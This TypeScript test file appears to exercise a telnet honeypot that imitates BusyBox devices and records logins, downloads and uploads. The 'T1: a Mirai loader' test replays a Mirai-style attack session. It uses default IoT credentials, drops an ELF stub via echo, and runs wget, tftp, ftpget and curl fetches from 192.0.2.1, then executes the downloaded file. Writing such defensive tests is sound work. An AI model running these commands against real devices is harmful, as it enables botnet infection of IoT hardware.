import { describe, expect, it } from 'vitest';
import { bodyOf, meet, play, type Talk } from '../play.ts';
import { telnet } from './telnet.ts';

/** Logs in with pairs that get in, as bots do, and returns the talk at its first prompt. */
async function inside(seed = 'test'): Promise<Talk> {
  const talk = meet(telnet, { seed });
  for (let i = 0; i < 3; i++) {
    const answer = await talk.say('root\r\nvizxv\r\n');
    if (answer.includes('built-in shell')) return talk;
  }
  throw new Error('nobody gets in');
}

async function ask(talk: Talk, line: string): Promise<string> {
  const answer = await talk.say(`${line}\r\n`);
  expect(answer.startsWith(`${line}\r\n`), answer).toBe(true);
  return answer
    .slice(line.length + 2)
    .replace(/[~/][^\r\n]* # $/, '')
    .replaceAll('\r\n', '\n');
}

const told = (talk: Talk, kind: string) => talk.events.map(bodyOf).filter((body) => body.kind === kind);

describe('telnet login', () => {
  it('greets as BusyBox telnetd, refuses what is not plausible, and gives up after three', async () => {
    const talk = await play(telnet, ['root', '345gs5662d34', 'kurt', 'x', 'root', '3245gs5662d34']);
    expect(talk.filter((line) => !line.startsWith('! '))).toEqual([
      `< ÿý\\x01ÿý\\x1fÿû\\x01ÿû\\x03${hostname(talk)} login: `,
      '> root',
      '< root\\r\\n',
      '< Password: ',
      '> 345gs5662d34',
      '< \\r\\n',
      '< Login incorrect\\r\\n',
      `< ${hostname(talk)} login: `,
      '> kurt',
      '< kurt\\r\\n',
      '< Password: ',
      '> x',
      '< \\r\\n',
      '< Login incorrect\\r\\n',
      `< ${hostname(talk)} login: `,
      '> root',
      '< root\\r\\n',
      '< Password: ',
      '> 3245gs5662d34',
      '< \\r\\n',
      '< Login incorrect\\r\\n',
    ]);
    expect(talk.filter((line) => line.startsWith('! '))).toEqual(
      [
        '! login {"kind":"login","user":"root","secret":"345gs5662d34","ok":false}',
        '! login {"kind":"login","user":"kurt","secret":"x","ok":false}',
        '! login {"kind":"login","user":"root","secret":"3245gs5662d34","ok":false}',
      ].map((line) => line.replace(/"kind":"login",/, '')),
    );
  });

  it('lets a plausible pair in by the third try, and then only that pair', async () => {
    const first = await inside();
    const good = told(first, 'login').find((body) => body.kind === 'login' && body.ok);
    expect(good).toMatchObject({ user: 'root', secret: 'vizxv', ok: true });
    const again = meet(telnet, { memory: first.memory });
    expect(await again.say('root\r\nadmin\r\n')).toContain('Login incorrect');
    expect(await again.say('root\r\nvizxv\r\n')).toContain('built-in shell');
  });

  it('finds the names among negotiation that is cut anywhere', async () => {
    const bytes = Buffer.from(
      '\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0\xff\xfd\x03ro\xff\xfe\x01ot\r\nsecret\r\n',
      'latin1',
    );
    for (let cut = 1; cut < bytes.length; cut++) {
      const talk = meet(telnet, { memory: (await inside()).memory });
      await talk.say(bytes.subarray(0, cut));
      await talk.say(bytes.subarray(cut));
      await talk.leave();
      expect(told(talk, 'login')).toMatchObject([{ user: 'root', secret: 'secret' }]);
      expect(told(talk, 'fingerprint')).toMatchObject([{ value: 'WILL 24, SB 24 \0xterm, DO 3, DONT 1' }]);
    }
  });
});

describe('T1: a Mirai loader', () => {
  it('finds a BusyBox, drops a program by echo and asks for another by wget and tftp', async () => {
    const talk = await inside();
    for (const word of ['enable', 'system', 'shell', 'linuxshell']) {
      expect(await ask(talk, word)).toBe(`-sh: ${word}: not found\n`);
    }
    expect(await ask(talk, 'sh')).toContain('built-in shell');
    const probe = await ask(talk, 'cat /proc/mounts; /bin/busybox SMJKD');
    expect(probe).toMatch(
      /^\/dev\/root \/ ext4 rw[\s\S]*tmpfs \/tmp tmpfs rw[\s\S]*SMJKD: applet not found\n$/,
    );
    expect(await ask(talk, 'cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox SMJKD')).toBe(
      "cat: can't open '.s': No such file or directory\nSMJKD: applet not found\n",
    );
    const usage = await ask(talk, 'tftp; wget; /bin/busybox SMJKD');
    expect(usage).toMatch(/Usage: tftp [\s\S]*Usage: wget [\s\S]*SMJKD: applet not found\n$/);
    const head = await ask(talk, 'dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s');
    expect(head.slice(0, 4)).toBe('\x7fELF');
    expect(head).toContain('1+0 records in\n1+0 records out\n');

    await ask(talk, '>/tmp/.x && cd /tmp/; >/dev/.x && cd /dev/; cd /tmp');
    await ask(
      talk,
      "/bin/busybox echo -en '\\x7f\\x45\\x4c\\x46\\001' > .x; /bin/busybox echo -en '\\x02\\n' >> .x",
    );
    await ask(talk, 'chmod 777 .x; ./.x telnet.x; rm -rf .x');
    const [upload] = told(talk, 'upload');
    expect(upload).toMatchObject({ name: '/tmp/.x', size: 7, detail: { how: 'made executable' } });
    expect([...talk.payloads.values()][0]!.toString('latin1')).toBe('\x7fELF\x01\x02\n');

    await ask(talk, 'wget http://192.0.2.1:8080/bins/x -O - > .d; chmod 777 .d; ./.d telnet.x');
    await ask(talk, '/bin/busybox tftp -g -l dvr -r /mips 192.0.2.1; ftpget -u a -p b 192.0.2.1 x bins/x');
    await ask(talk, 'curl -O http://192.0.2.1/y; busybox wget 192.0.2.1/z');
    expect(told(talk, 'download')).toMatchObject([
      { url: 'http://192.0.2.1:8080/bins/x', tool: 'wget', name: '-' },
      { url: 'tftp://192.0.2.1/mips', tool: 'tftp', name: 'dvr' },
      { url: 'ftp://a:b@192.0.2.1/bins/x', tool: 'ftpget', name: 'x' },
      { url: 'http://192.0.2.1/y', tool: 'curl', name: 'y' },
      { url: 'http://192.0.2.1/z', tool: 'wget', name: 'z' },
    ]);
    expect(told(talk, 'command').length).toBe(15);
  });
});

function hostname(lines: string[]): string {
  return /x03(.*) login: $/.exec(lines[0]!)![1]!;
}
